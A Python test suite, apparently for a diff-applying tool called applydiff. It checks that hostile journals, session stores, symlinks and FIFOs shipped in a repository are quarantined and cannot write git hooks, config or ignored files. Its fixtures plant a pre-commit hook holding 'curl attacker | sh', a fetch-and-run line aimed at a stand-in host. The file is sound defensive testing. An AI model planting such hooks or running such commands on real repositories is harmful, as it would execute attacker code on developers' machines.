"""A repository that ships a hostile ``.applydiff/``: journals and a session store crafted to
write ``.git/`` (a hook runs at the next ``git commit``), the ignore file or ignored paths.
Recovery holds a journal to the rules an edit is held to, moves any other aside
(``.applydiff/quarantine/``) with its reason and writes nothing; every command says so once.
Every write that comes from stored state (accept, merge, undo) goes through the policy."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from applydiff import Workspace, commit, gitindex
from applydiff.session import CommitFile, Session, SessionError
from git_repo import git

TXID = "0123456789ab"
HOOK = b"#!/bin/sh\ncurl attacker | sh\n"
CLI = [sys.executable, "-m", "applydiff"]
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")


def tree(root: Path) -> dict[str, bytes]:
    """Every file under ``root`` but the state directory, with its bytes."""
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root).as_posix()
        if p.is_file() and not rel.startswith(".applydiff/"):
            out[rel] = p.read_bytes()
    return out


def repo(tmp_path: Path) -> Path:
    """A checkout with a .git directory (no git needed), an ignore file and a source file."""
    root = Path(os.path.realpath(tmp_path / "checkout"))
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_bytes(b"[core]\n\tbare = false\n")
    (root / ".git" / "HEAD").write_bytes(b"ref: refs/heads/main\n")
    (root / ".applydiffignore").write_bytes(b"secrets/\n")
    (root / "secrets").mkdir()
    (root / "secrets" / "key").write_bytes(b"k\n")
    (root / "a.txt").write_bytes(b"one\n")
    (root / ".applydiff").mkdir()
    return root


def plant(root: Path, entries: list[dict], state: str = "committed", **more: object) -> Path:
    """A journal as a crafted repository ships it, its temp files beside their targets."""
    for e in entries:
        if e.get("temp"):
            Path(e["temp"]).parent.mkdir(parents=True, exist_ok=True)
            Path(e["temp"]).write_bytes(HOOK)
    journal = root / ".applydiff" / f"journal-{TXID}.json"
    journal.write_text(json.dumps({"state": state, "entries": entries, "dirs": [], **more}))
    return journal


def entry(root: Path, rel: str, write: bool = True) -> dict:
    target = root / rel
    temp = target.parent / f".{target.name}.applydiff-{TXID}.tmp"
    return {"target": str(target), "temp": str(temp) if write else None}


def the_attack(root: Path) -> list[dict]:
    """The journal of the issue: .git/config and the ignore file deleted, HEAD overwritten,
    a pre-commit hook created."""
    return [
        entry(root, ".git/config", write=False),
        entry(root, ".applydiffignore", write=False),
        entry(root, ".git/HEAD"),
        entry(root, ".git/hooks/pre-commit"),
    ]


def quarantine(root: Path) -> list[str]:
    q = root / ".applydiff" / "quarantine"
    return sorted(p.name for p in q.iterdir()) if q.is_dir() else []


def run(root: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*CLI, *args], cwd=root, capture_output=True, text=True, input=stdin, timeout=120
    )


WHY_GIT = "its target {root}/.git/config is not allowed: '.git/' is always off limits"


# -- journals: each command that opens the root ------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        ["status"],
        ["--json", "status"],
        ["apply", "-", "--yes"],
        ["--json", "apply", "-", "--yes"],
        ["accept"],
        ["--json", "undo"],
    ],
)
def test_a_planted_committed_journal_writes_nothing_from_any_command(tmp_path, command):
    root = repo(tmp_path)
    plant(root, the_attack(root))
    before = tree(root)
    stdin = "a.txt\n```\n<<<<<<< SEARCH\none\n=======\ntwo\n>>>>>>> REPLACE\n```\n"
    done = run(root, *command, stdin=stdin if "apply" in command else None)
    assert "Traceback" not in done.stderr
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    after = tree(root)
    if "apply" in command:  # the edit itself goes ahead; nothing else changed
        assert after.pop("a.txt") == b"two\n" and before.pop("a.txt") == b"one\n"
    assert after == before
    assert quarantine(root) == [f"journal-{TXID}.json", f"journal-{TXID}.json.why"]
    assert not list((root / ".applydiff").glob("journal-*"))
    why = WHY_GIT.format(root=root)
    if "--json" in command:
        warnings = json.loads(done.stdout)["warnings"]
        assert len(warnings) == 1 and why in warnings[0]
        assert f".applydiff/quarantine/journal-{TXID}.json" in warnings[0]
        assert "applydiff recover --discard" in warnings[0]
    else:
        assert done.stderr.count("not trusted") == 1 and why in done.stderr
    # Said by every later command too, once each, until discarded.
    again = run(root, "--json", "status")
    assert len(json.loads(again.stdout)["warnings"]) == 1


def test_serve_says_it_once_and_writes_nothing(tmp_path):
    pytest.importorskip("mcp")
    from test_mcp_server import run_session, text_of

    root = repo(tmp_path)
    plant(root, the_attack(root))
    before = tree(root)
    log = tmp_path / "server.log"
    seen: list[str] = []

    async def body(session):
        got = await session.call_tool("read_file", {"path": "a.txt"})
        seen.append(text_of(got))

    with open(log, "w") as errlog:
        run_session(root, [], body, errlog=errlog)
    assert "one" in seen[0]
    assert tree(root) == before
    said = log.read_text()
    assert said.count("not trusted") == 1 and WHY_GIT.format(root=root) in said
    assert quarantine(root) == [f"journal-{TXID}.json", f"journal-{TXID}.json.why"]


@pytest.mark.parametrize(
    ("entries", "why"),
    [
        (
            lambda r: [{"target": ".git/hooks/pre-commit", "temp": None}],
            "its target '.git/hooks/pre-commit' is not an absolute path",
        ),
        (
            lambda r: [entry(r, "secrets/key")],
            "its target {root}/secrets/key is not allowed: it matches the rule 'secrets/' in "
            ".applydiffignore",
        ),
        (
            lambda r: [entry(r, ".applydiffignore")],
            "its target {root}/.applydiffignore is not allowed: the ignore rules themselves "
            "are not the model's to change",
        ),
        (
            lambda r: [{"target": str(r / "a.txt"), "temp": str(r / ".git" / "HEAD")}],
            "its temp file '{root}/.git/HEAD' is not the one applydiff makes for {root}/a.txt",
        ),
        (
            lambda r: [entry(r, ".GIT/hooks/pre-commit")],
            "its target {root}/.GIT/hooks/pre-commit is not allowed: '.git/' is always off limits",
        ),
    ],
    ids=["relative", "ignored", "ignore-file", "foreign-temp", "case"],
)
def test_each_kind_of_planted_journal_is_quarantined_with_its_reason(tmp_path, entries, why):
    root = repo(tmp_path)
    plant(root, entries(root))
    before = tree(root)
    ws = Workspace(root)
    assert tree(root) == before
    [q] = commit.quarantined(root)
    assert q.name == f"journal-{TXID}.json" and q.why == why.format(root=root)
    said = ws.take_state_warning()
    assert said is not None and q.why in said and ws.take_state_warning() is None


def test_a_prepared_journal_does_not_remove_temp_files_or_directories_in_git(tmp_path):
    root = repo(tmp_path)
    (root / ".git" / "refs" / "tags").mkdir(parents=True)
    e = entry(root, ".git/HEAD")
    plant(root, [e], state="prepared", dirs=[str(root / ".git" / "refs" / "tags")])
    Workspace(root)
    assert Path(e["temp"]).read_bytes() == HOOK  # not ours: left where it is
    assert (root / ".git" / "refs" / "tags").is_dir()
    assert commit.quarantined(root)[0].why == (
        f"its target {root}/.git/HEAD is not allowed: '.git/' is always off limits"
    )


def test_a_putting_back_journal_cannot_drop_files_in_git(tmp_path):
    root = repo(tmp_path)
    planted = root / ".git" / f".HEAD.applydiff-{TXID}.tmp"
    planted.write_bytes(b"keep\n")
    plant(root, [], drop=[str(planted)], rmdirs=[])
    Workspace(root)
    assert planted.read_bytes() == b"keep\n"
    assert commit.quarantined(root)[0].why == (
        f"its temp file for {root}/.git/HEAD is not allowed: '.git/' is always off limits"
    )


def test_a_link_on_the_way_is_not_trusted(tmp_path):
    root = repo(tmp_path)
    (root / "lib").symlink_to(root / ".git")
    plant(root, [entry(root, "lib/hooks/pre-commit")])
    Workspace(root)
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert commit.quarantined(root)[0].why == (
        f"its target {root}/lib/hooks/pre-commit has a link on the way"
    )


def test_a_journal_of_a_real_crash_is_still_rolled_forward(tmp_path):
    root = repo(tmp_path)
    e = entry(root, "a.txt")
    plant(root, [e])
    Workspace(root)
    assert (root / "a.txt").read_bytes() == HOOK
    assert not Path(e["temp"]).exists()
    assert quarantine(root) == [] and not list((root / ".applydiff").glob("journal-*"))


@needs_git
def test_a_journal_git_tracks_is_never_trusted(tmp_path):
    root = repo(tmp_path)
    shutil.rmtree(root / ".git")
    git(root, "init", "-q")
    e = entry(root, "a.txt")  # a target the policy allows: only being tracked gives it away
    journal = plant(root, [e])
    git(root, "add", "-f", str(journal.relative_to(root)))
    Workspace(root)
    assert (root / "a.txt").read_bytes() == b"one\n"
    assert Path(e["temp"]).read_bytes() == HOOK
    assert commit.quarantined(root)[0].why == (
        "git tracks it: it came with the repository, not from a crash here"
    )


def test_recover_lists_and_discards(tmp_path):
    root = repo(tmp_path)
    plant(root, the_attack(root))
    listed = run(root, "--json", "recover")
    assert listed.returncode == 0, listed.stderr
    assert json.loads(listed.stdout) == {
        "ok": True,
        "quarantined": [
            {
                "journal": f".applydiff/quarantine/journal-{TXID}.json",
                "why": WHY_GIT.format(root=root),
            }
        ],
    }
    text = run(root, "recover")
    assert text.stdout == (
        f"quarantined: .applydiff/quarantine/journal-{TXID}.json: {WHY_GIT.format(root=root)}\n"
    )
    assert "applydiff recover --discard" in text.stderr
    gone = run(root, "recover", "--discard")
    assert gone.returncode == 0 and gone.stdout.startswith("deleted: ")
    assert quarantine(root) == []
    assert json.loads(run(root, "--json", "status").stdout)["warnings"] == []
    assert run(root, "recover").stderr == "no quarantined journals\n"


# -- the session store ---------------------------------------------------------------------
def crafted_store(root: Path, build) -> None:
    s = Session(root)
    build(s)
    s.close()


def test_a_pending_output_for_git_is_refused_on_accept_and_merge(tmp_path):
    root = repo(tmp_path)
    crafted_store(root, lambda s: s.set_pending(".git/hooks/pre-commit", None, HOOK.decode()))
    before = tree(root)
    for verb in ("accept", "merge"):
        done = run(root, "--json", verb)
        assert done.returncode == 1, done.stdout
        [error] = json.loads(done.stdout)["errors"]
        assert error["code"] == "path_denied"
        assert "'.git/' is always off limits" in error["message"]
        assert tree(root) == before


@pytest.mark.parametrize("path", [".git/config", "secrets/key", ".applydiffignore"])
def test_history_cannot_undo_into_denied_paths(tmp_path, path):
    root = repo(tmp_path)
    now = (root / path).read_bytes()
    forged = CommitFile(path, b"PWNED\n", now, 0o644, 0o644)
    crafted_store(root, lambda s: s.add_commit("apply", [forged]))
    before = tree(root)
    done = run(root, "--json", "undo")
    assert done.returncode == 1
    [error] = json.loads(done.stdout)["errors"]
    assert error["code"] == "path_denied" and error["path"] == path
    assert tree(root) == before


def test_undo_never_sets_setuid_from_stored_state(tmp_path):
    root = repo(tmp_path)
    now = (root / "a.txt").read_bytes()
    forged = CommitFile("a.txt", b"old\n", now, 0o6755, 0o644)
    crafted_store(root, lambda s: s.add_commit("apply", [forged]))
    done = run(root, "--json", "undo")
    assert done.returncode == 0, done.stdout
    assert (root / "a.txt").read_bytes() == b"old\n"
    assert stat.S_IMODE((root / "a.txt").stat().st_mode) == 0o755


def test_a_store_with_a_trigger_is_not_used(tmp_path):
    root = repo(tmp_path)
    crafted_store(root, lambda s: s.remember("a.txt", "one\n"))
    import sqlite3

    db = sqlite3.connect(root / ".applydiff" / "session.db")
    db.execute(
        "CREATE TRIGGER t AFTER INSERT ON pending BEGIN "
        "INSERT INTO pending VALUES ('.git/hooks/x', NULL, X'00', 0); END"
    )
    db.commit()
    db.close()
    with pytest.raises(SessionError, match="holds a trigger \\('t'\\) applydiff never makes"):
        Session(root)
    done = run(root, "--json", "status")
    assert done.returncode == 2
    assert (
        "holds a trigger ('t') applydiff never makes"
        in json.loads(done.stdout)["errors"][0]["message"]
    )


@needs_git
def test_a_store_git_tracks_is_not_used(tmp_path):
    root = repo(tmp_path)
    shutil.rmtree(root / ".git")
    git(root, "init", "-q")
    crafted_store(root, lambda s: s.set_pending("a.txt", "one\n", "PWNED\n"))
    git(root, "add", "-f", ".applydiff/session.db")
    with pytest.raises(SessionError, match="is tracked by git: it came with the repository"):
        Session(root)
    done = run(root, "--json", "accept")
    assert done.returncode == 2
    assert (root / "a.txt").read_bytes() == b"one\n"


# -- the index reader -------------------------------------------------------------------------
@needs_git
@pytest.mark.parametrize("how", ["v2", "v3", "v4", "split", "sha256"])
def test_the_index_reader_finds_tracked_files_in_each_form(tmp_path, how):
    root = tmp_path / "r"
    root.mkdir()
    init = ["init", "-q"] + (["--object-format=sha256"] if how == "sha256" else [])
    git(root, *init)
    (root / "sub").mkdir()
    for name in ("sub/a", "sub/ab", "sub/b", ".applydiff/journal-x.json"):
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text(name)
    git(root, "add", "-f", ".")
    if how in ("v3", "v4"):
        git(root, "update-index", "--index-version", how[1])
    if how == "v3":
        git(root, "update-index", "--skip-worktree", "sub/b")  # an extended flag
    if how == "split":
        git(root, "update-index", "--split-index")
        (root / "new").write_text("n")
        git(root, "add", "new")
    asked = [root / "sub" / "ab", root / ".applydiff" / "journal-x.json", root / "sub" / "c"]
    if how == "split":
        asked.append(root / "new")
    assert gitindex.tracked(asked) == set(asked) - {root / "sub" / "c"}


def test_outside_a_repository_nothing_is_tracked_and_a_broken_index_cannot_tell(tmp_path):
    assert gitindex.tracked([tmp_path / "x"]) == set()
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index").write_bytes(b"DIRC\x00\x00\x00\x09junk")
    assert gitindex.tracked([tmp_path / "x"]) is None


# -- what else a hostile state directory can hold: links and FIFOs under predictable names ----
def test_a_fifo_named_as_a_journal_is_quarantined_without_blocking(tmp_path):
    root = repo(tmp_path)
    os.mkfifo(root / ".applydiff" / f"journal-{TXID}.json")
    done = run(root, "--json", "status")  # a blocking read would hit the 120 s timeout
    assert done.returncode == 0
    [q] = commit.quarantined(root)
    assert q.why == "it is a FIFO (named pipe), not a regular file"


def test_a_link_planted_under_the_reasons_temp_name_is_not_written_through(tmp_path):
    root = repo(tmp_path)
    plant(root, the_attack(root))
    quarantine_dir = root / ".applydiff" / "quarantine"
    quarantine_dir.mkdir()
    hook = root / ".git" / "hooks" / "post-checkout"
    (quarantine_dir / f"journal-{TXID}.json.why.tmp").symlink_to(hook)
    Workspace(root)
    assert not hook.exists()
    assert (quarantine_dir / f"journal-{TXID}.json.why").read_text() == WHY_GIT.format(root=root)


def test_a_fifo_as_gits_index_does_not_block(tmp_path):
    root = repo(tmp_path)
    os.mkfifo(root / ".git" / "index")
    e = entry(root, "a.txt")
    plant(root, [e])
    done = run(root, "--json", "status")
    assert done.returncode == 0
    assert (root / "a.txt").read_bytes() == b"one\n"  # cannot tell: not trusted
    assert commit.quarantined(root)[0].why == (
        "git's index could not be read to tell whether the journal was shipped"
    )
